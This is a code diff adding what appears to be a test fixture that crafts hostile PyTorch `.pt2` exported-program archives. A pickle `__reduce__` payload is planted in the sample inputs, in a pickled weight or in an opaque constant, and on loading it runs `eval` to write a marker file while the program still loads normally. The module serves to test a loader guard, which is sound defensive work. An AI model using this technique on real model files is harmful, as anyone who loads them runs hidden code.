@@ -1,0 +1,80 @@
+"""Hostile `.pt2` archives: a real exported program with a `__reduce__` payload planted where
+`torch.export.load` would unpickle it. The payload writes a marker file, then returns a value the
+loader accepts (so without a guard the program loads, and compiles, normally)."""
+
+from __future__ import annotations
+
+import io
+import json
+import pickle
+import zipfile
+from pathlib import Path
+
+import torch
+
+EXAMPLE_SHAPE = (1, 3, 8, 8)
+# Where the payload hides: sample inputs (torch retries them with weights_only=False), a weight
+# marked use_pickle (loaded with weights_only=False), an opaque constant (pickle.loads).
+VARIANTS = ("sample_inputs", "pickled_weight", "opaque_constant")
+
+
+class Payload:
+    """Unpickles to `eval(value)` after writing `marker`: proof that code ran."""
+
+    def __init__(self, marker: Path, value: str) -> None:
+        self.marker = marker
+        self.value = value
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        touch = f"__import__('pathlib').Path({str(self.marker)!r}).write_text('payload ran')"
+        return (eval, (f"({touch}, {self.value})[1]",))
+
+
+def _torch_bytes(obj: object) -> bytes:
+    buffer = io.BytesIO()
+    torch.save(obj, buffer)
+    return buffer.getvalue()
+
+
+def save_plain_program(path: Path) -> torch.export.ExportedProgram:
+    """A small conv program saved with torch.export.save (the honest original)."""
+    torch.manual_seed(0)
+    model = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.ReLU()).eval()
+    program = torch.export.export(model, (torch.randn(*EXAMPLE_SHAPE),))
+    torch.export.save(program, path)
+    return program
+
+
+def craft(original: Path, dst: Path, variant: str, marker: Path) -> Path:
+    """Copy `original` to `dst` with a payload planted as `variant` (one of VARIANTS)."""
+    with zipfile.ZipFile(original) as archive:
+        root = archive.namelist()[0].split("/", 1)[0]
+        members = {n.split("/", 1)[1]: archive.read(n) for n in archive.namelist()}
+    if variant == "sample_inputs":
+        value = f"((__import__('torch').zeros{EXAMPLE_SHAPE},), {{}})"
+        members["data/sample_inputs/model.pt"] = _torch_bytes(Payload(marker, value))
+    elif variant == "pickled_weight":
+        name = "data/weights/model_weights_config.json"
+        config = json.loads(members[name])
+        meta = config["config"]["0.weight"]
+        meta.update(use_pickle=True, path_name="weight_evil")
+        members[name] = json.dumps(config).encode()
+        weight = "__import__('torch').nn.Parameter(__import__('torch').zeros(4, 3, 3, 3))"
+        members["data/weights/weight_evil"] = _torch_bytes(Payload(marker, weight))
+    elif variant == "opaque_constant":
+        name = "data/constants/model_constants_config.json"
+        config = json.loads(members[name])
+        config["config"]["evil"] = {
+            "path_name": "opaque_obj_0",
+            "is_param": False,
+            "use_pickle": True,
+            "tensor_meta": None,
+        }
+        members[name] = json.dumps(config).encode()
+        members["data/constants/opaque_obj_0"] = pickle.dumps(Payload(marker, "None"))
+    else:
+        raise ValueError(f"unknown variant {variant!r}; one of {VARIANTS}")
+    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as out:
+        for name, data in members.items():
+            out.writestr(f"{root}/{name}", data)
+    return dst
